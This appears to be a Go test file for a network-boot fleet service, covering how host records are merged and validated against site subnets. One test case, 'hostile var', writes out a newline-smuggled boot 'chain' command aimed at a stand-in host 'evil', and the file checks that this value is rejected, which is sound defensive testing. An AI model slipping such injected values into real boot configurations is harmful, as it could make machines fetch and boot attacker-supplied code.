package service

import (
	"errors"
	"maps"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fleetboot/fleetboot/proto"
)

func TestMergeHost(t *testing.T) {
	const mac = "52:54:00:00:00:01"
	stored := proto.Host{MAC: mac, Site: "lab", Image: "deb", Hostname: "web1", State: proto.StateBoot, IP: "10.0.0.10",
		ExtraMACs: []string{"52:54:00:00:00:0a"}, Vars: map[string]string{"role": "db", "tier": "1"}}
	labelled := proto.Host{MAC: mac, Site: "lab", State: proto.StateBoot, Labels: map[string]string{"rack": "r12", "role": "web"}}
	tests := []struct {
		name    string
		cur     *proto.Host
		req     proto.HostSetRequest
		want    proto.Host
		wantErr string
	}{
		{name: "new host boots", req: proto.HostSetRequest{Site: ptr("lab")},
			want: proto.Host{MAC: mac, Site: "lab", State: proto.StateBoot}},
		{name: "new host without a site leaves it to the caller", req: proto.HostSetRequest{Image: ptr("deb")},
			want: proto.Host{MAC: mac, Image: "deb", State: proto.StateBoot}},
		{name: "empty request changes nothing", cur: &stored, want: stored},
		{name: "only what the request carries changes", cur: &stored, req: proto.HostSetRequest{State: ptr(proto.StateLocal), Once: ptr(true)},
			want: func() proto.Host { h := stored; h.State, h.Once = proto.StateLocal, true; return h }()},
		{name: "empty strings clear", cur: &stored, req: proto.HostSetRequest{IP: ptr(""), Hostname: ptr(""), Image: ptr("")},
			want: func() proto.Host { h := stored; h.IP, h.Hostname, h.Image = "", "", ""; return h }()},
		{name: "vars set and unset", cur: &stored, req: proto.HostSetRequest{Vars: map[string]string{"tier": "2", "zone": "a"}, UnsetVars: []string{"role"}},
			want: func() proto.Host { h := stored; h.Vars = map[string]string{"tier": "2", "zone": "a"}; return h }()},
		{name: "last var unset", cur: &proto.Host{MAC: mac, Site: "lab", State: proto.StateBoot, Vars: map[string]string{"a": "1"}}, req: proto.HostSetRequest{UnsetVars: []string{"a"}},
			want: proto.Host{MAC: mac, Site: "lab", State: proto.StateBoot}},
		{name: "labels set and unset", cur: &labelled, req: proto.HostSetRequest{Labels: map[string]string{"rack": "r13", "zone": "a"}, UnsetLabels: []string{"role"}},
			want: func() proto.Host { h := labelled; h.Labels = map[string]string{"rack": "r13", "zone": "a"}; return h }()},
		{name: "last label unset", cur: &labelled, req: proto.HostSetRequest{UnsetLabels: []string{"role", "rack"}},
			want: func() proto.Host { h := labelled; h.Labels = nil; return h }()},
		{name: "extra MACs parsed, deduplicated, primary dropped", cur: &stored,
			req:  proto.HostSetRequest{ExtraMACs: &[]string{"5254.0000.000b", "52-54-00-00-00-0B", mac}},
			want: func() proto.Host { h := stored; h.ExtraMACs = []string{"52:54:00:00:00:0b"}; return h }()},
		{name: "extra MACs cleared", cur: &stored, req: proto.HostSetRequest{ExtraMACs: &[]string{}},
			want: func() proto.Host { h := stored; h.ExtraMACs = nil; return h }()},
		{name: "IP with leading zeros", req: proto.HostSetRequest{Site: ptr("lab"), IP: ptr("010.0.0.7")}, wantErr: `invalid IP address "010.0.0.7"`},
		{name: "IPv6 refused", req: proto.HostSetRequest{Site: ptr("lab"), IP: ptr("fd00::1")}, wantErr: `invalid IP address "fd00::1"`},
		{name: "bad extra MAC", cur: &stored, req: proto.HostSetRequest{ExtraMACs: &[]string{"zz"}}, wantErr: "extra MAC: invalid MAC address"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var before proto.Host
			if tt.cur != nil {
				before = *tt.cur
				before.Vars = maps.Clone(tt.cur.Vars)
				before.Labels = maps.Clone(tt.cur.Labels)
			}
			got, err := mergeHost(mac, tt.cur, tt.req)
			if tt.wantErr != "" {
				if err == nil || !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want ErrInvalid with %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("merged host (-want +got):\n%s", diff)
			}
			// Pure: the stored host is not touched.
			if tt.cur != nil {
				if diff := cmp.Diff(before, *tt.cur); diff != "" {
					t.Errorf("mergeHost changed the stored host (-before +after):\n%s", diff)
				}
			}
		})
	}
}

func TestCandidateValidate(t *testing.T) {
	site := proto.Site{Name: "lab", Networks: []proto.Network{{Subnet: "10.0.0.0/24"}, {Subnet: "10.2.0.0/16"}}}
	ok := proto.Host{MAC: "52:54:00:00:00:01", Site: "lab", State: proto.StateBoot}
	with := func(f func(h *proto.Host)) proto.Host {
		h := ok
		f(&h)
		return h
	}
	tests := []struct {
		name string
		host proto.Host
		want string // "" = valid
		is   error
	}{
		{name: "minimal", host: ok},
		{name: "everything", host: with(func(h *proto.Host) {
			h.Hostname, h.State, h.IP, h.Vars = "web1", proto.StateLocal, "10.2.3.4", map[string]string{"role": "db"}
		})},
		{name: "IP in the first subnet", host: with(func(h *proto.Host) { h.IP = "10.0.0.10" })},
		{name: "IP outside every subnet", host: with(func(h *proto.Host) { h.IP = "10.1.0.5" }),
			want: "IP 10.1.0.5 is not inside any subnet of site lab (10.0.0.0/24, 10.2.0.0/16)", is: ErrInvalid},
		{name: "network address", host: with(func(h *proto.Host) { h.IP = "10.0.0.0" }), want: "not inside any subnet", is: ErrInvalid},
		{name: "broadcast address", host: with(func(h *proto.Host) { h.IP = "10.0.0.255" }), want: "not inside any subnet", is: ErrInvalid},
		{name: "IP not an address", host: with(func(h *proto.Host) { h.IP = "ten" }), want: `invalid IP address "ten"`, is: ErrInvalid},
		{name: "bad hostname", host: with(func(h *proto.Host) { h.Hostname = "a b" }), want: "hostname", is: ErrInvalid},
		{name: "bad state", host: with(func(h *proto.Host) { h.State = "reboot" }), want: `invalid state "reboot": want boot or local`, is: ErrInvalid},
		{name: "empty state", host: with(func(h *proto.Host) { h.State = "" }), want: `invalid state ""`, is: ErrInvalid},
		{name: "hostile var", host: with(func(h *proto.Host) { h.Vars = map[string]string{"x": "a\nchain http://evil/"} }), is: ErrInvalid},
		{name: "bad var name", host: with(func(h *proto.Host) { h.Vars = map[string]string{"a b": "1"} }), is: ErrInvalid},
		{name: "labels", host: with(func(h *proto.Host) { h.Labels = map[string]string{"rack": "r12", "example.com/role": "web-1"} })},
		{name: "label value with a space", host: with(func(h *proto.Host) { h.Labels = map[string]string{"rack": "r 12"} }), want: `invalid value "r 12" of label rack`, is: ErrInvalid},
		{name: "label value with a comma", host: with(func(h *proto.Host) { h.Labels = map[string]string{"rack": "a,b"} }), want: "of label rack", is: ErrInvalid},
		{name: "label key starting with a dot", host: with(func(h *proto.Host) { h.Labels = map[string]string{".x": "1"} }), want: `invalid label key ".x"`, is: ErrInvalid},
		{name: "empty label value", host: with(func(h *proto.Host) { h.Labels = map[string]string{"x": ""} }), want: "1 to 63 characters", is: ErrInvalid},
		{name: "another site", host: with(func(h *proto.Host) { h.Site = "dc" }), want: `is at site "dc", checked against site "lab"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := candidate{tt.host}.validate(site)
			if tt.want == "" && tt.is == nil {
				if err != nil {
					t.Fatalf("validate: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("validate accepted it")
			}
			if !strings.Contains(err.Error(), tt.want) || tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("err = %v, want %q (%v)", err, tt.want, tt.is)
			}
		})
	}
}
